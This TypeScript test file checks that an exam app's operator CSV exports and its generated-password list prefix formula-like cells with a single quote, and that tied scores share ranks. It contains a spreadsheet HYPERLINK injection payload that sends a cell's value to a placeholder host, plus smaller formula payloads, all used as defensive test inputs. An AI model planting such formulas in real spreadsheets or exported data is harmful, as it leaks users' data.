/**
 * Every CSV the operator's tool writes is safe to open in a spreadsheet: a text cell that would start a formula
 * (= + - @ tab CR) gets a leading single quote, header included; numbers stay numbers. The results export ranks
 * ties as the ranking page does (1, 2, 2, 4).
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { neutraliseCell, parseCsv, toCsv } from '../../../src/server/operator/csv';
import { eksporButir, eksporHasil } from '../../../src/server/operator/ekspor';
import { buildTestApp, testClock, type TestContext } from '../../helpers/buildTestApp';
import { FIXTURE_NOW, buildPaketFixture, sessionFor, type PaketFixture } from '../../helpers/hasilFixture';
import { runner } from '../../helpers/operatorRun';

const HYPERLINK = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")';

describe('neutraliseCell and toCsv', () => {
  it.each([
    [HYPERLINK, `'${HYPERLINK}`],
    ['+1+2', "'+1+2"],
    ['-3+4', "'-3+4"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('prefixes %j with a single quote', (cell, safe) => {
    expect(neutraliseCell(cell)).toBe(safe);
  });

  it.each(['Budi Santoso', 'a=b', 'x+1', "'=sudah aman", '-3', '+1.25', '0,5', '-0,5', ''])(
    'leaves %j as it is',
    (cell) => {
      expect(neutraliseCell(cell)).toBe(cell);
    },
  );

  it('neutralises header and text cells, keeps numbers numbers, and still quotes what needs quoting', () => {
    const csv = toCsv(
      ['=kolom', 'nama', 'skor'],
      [
        ['+1+2', HYPERLINK, -0.42],
        ['@x', 'Budi; "Bud"', 700],
      ],
    );
    expect(csv.split('\r\n')).toEqual([
      "'=kolom,nama,skor",
      `'+1+2,"'=HYPERLINK(""http://contoh.invalid/?x=""&A1,""klik"")",-0.42`,
      `'@x,"Budi; ""Bud""",700`,
      '',
    ]);
  });
});

describe('the operator’s files', () => {
  let ctx: TestContext;
  let fx: PaketFixture;
  let dir: string;

  beforeEach(async () => {
    ctx = await buildTestApp({ clock: testClock(FIXTURE_NOW) });
    fx = await buildPaketFixture(ctx.db);
    dir = mkdtempSync(path.join(tmpdir(), 'siaptes-csv-'));
  });
  afterEach(async () => {
    rmSync(dir, { recursive: true, force: true });
    await ctx.close();
  });

  it('export-hasil: names that look like formulas arrive as text, and ties share a rank as on the ranking page', async () => {
    const set = (id: number, values: Record<string, string>) =>
      ctx.db.updateTable('siswa').set(values).where('id', '=', id).execute();
    await set(fx.siswa.andi, { nama_lengkap: HYPERLINK, lembaga: '+1+2' });
    await set(fx.siswa.budi, { sekolah: '-3+4', kelas: '@SUM(A1)' });
    await ctx.db
      .updateTable('mapel')
      .set({ nama: '=1+1 Matematika' })
      .where('id', '=', fx.mapel.matematika)
      .execute();

    const csv = eksporHasil(ctx.db, fx.idJadwal, FIXTURE_NOW);
    const { header, records } = parseCsv(await csv);
    expect(header).toContain("'=1+1 matematika benar");
    const row = (username: string) => {
      const found = records.find((r) => r.values.get('username') === username);
      if (!found) throw new Error(`${username} not in the export`);
      return found.values;
    };
    expect(row('andi').get('nama_lengkap')).toBe(`'${HYPERLINK}`);
    expect(row('andi').get('lembaga')).toBe("'+1+2");
    expect(row('budi').get('sekolah')).toBe("'-3+4");
    expect(row('budi').get('kelas')).toBe("'@SUM(A1)");

    // Citra 850, Andi 700, Budi 700, Dewi 500: competition ranks, as the ranking page gives them.
    const exported = ['citra', 'andi', 'budi', 'dewi'].map((u) => [
      u,
      row(u).get('peringkat'),
      row(u).get('skor'),
    ]);
    expect(exported).toEqual([
      ['citra', '1', '850'],
      ['andi', '2', '700'],
      ['budi', '2', '700'],
      ['dewi', '4', '500'],
    ]);
    expect(await rankingPage()).toEqual(exported.map(([, peringkat, skor]) => [peringkat, skor]));
  });

  /** The ranking page's first four rows as [peringkat, skor] texts. */
  async function rankingPage() {
    const ranking = await ctx.app.inject({
      method: 'POST',
      url: `/api/siswa/tryout/ranking/idsiswa/${fx.siswa.dewi}/paket/${fx.idJadwal}`,
      headers: { key: await sessionFor(ctx.db, fx.siswa.dewi, ctx.clock.now()) },
      payload: {},
    });
    const rows = ranking.json().content.list_rangking as { peringkat: number; skor: number }[];
    return rows.slice(0, 4).map((r) => [String(r.peringkat), String(r.skor)]);
  }

  it('export-hasil after the close reads the stored ranks: the tie still shares rank 2', async () => {
    ctx.clock.set(FIXTURE_NOW + 11 * 24 * 3600_000);
    const { records } = parseCsv(await eksporHasil(ctx.db, fx.idJadwal, ctx.clock.now()));
    const jadwal = await ctx.db
      .selectFrom('jadwal')
      .select('peringkat_at')
      .where('id', '=', fx.idJadwal)
      .executeTakeFirstOrThrow();
    expect(jadwal.peringkat_at).not.toBeNull();
    const top = records.slice(0, 4).map((r) => [r.values.get('peringkat'), r.values.get('skor')]);
    expect(top).toEqual([
      ['1', '850'],
      ['2', '700'],
      ['2', '700'],
      ['4', '500'],
    ]);
    expect(await rankingPage()).toEqual(top);
  });

  it('export-butir: subject names that look like formulas arrive as text', async () => {
    await ctx.db.updateTable('mapel').set({ nama: '@Fisika' }).where('id', '=', fx.mapel.fisika).execute();
    const { records } = parseCsv(await eksporButir(ctx.db, fx.idJadwal, FIXTURE_NOW));
    const mapel = new Set(records.map((r) => r.values.get('mapel')));
    expect(mapel).toContain("'@Fisika");
    expect(mapel).not.toContain('@Fisika');
  });

  it('import-siswa: the list of generated passwords writes a formula-like name as text', async () => {
    writeFileSync(
      path.join(dir, 'kelas.csv'),
      [
        'username,nama_lengkap,lembaga,id_program',
        'hana,=1+2,SMA Harapan,7',
        'iwan,@Iwan,SMA Harapan,7',
      ].join('\n'),
    );
    const run = runner(ctx, dir);
    expect((await run('import-siswa', 'kelas.csv')).code).toBe(0);
    // The list starts with a byte-order mark, so that Excel reads accented names right.
    const list = readFileSync(path.join(dir, 'kelas-passwords.csv'), 'utf8')
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(list[0]).toBe('username,nama_lengkap,password');
    expect(list[1]).toMatch(/^hana,'=1\+2,[A-Za-z0-9]{10}$/);
    expect(list[2]).toMatch(/^iwan,'@Iwan,[A-Za-z0-9]{10}$/);
  });
});
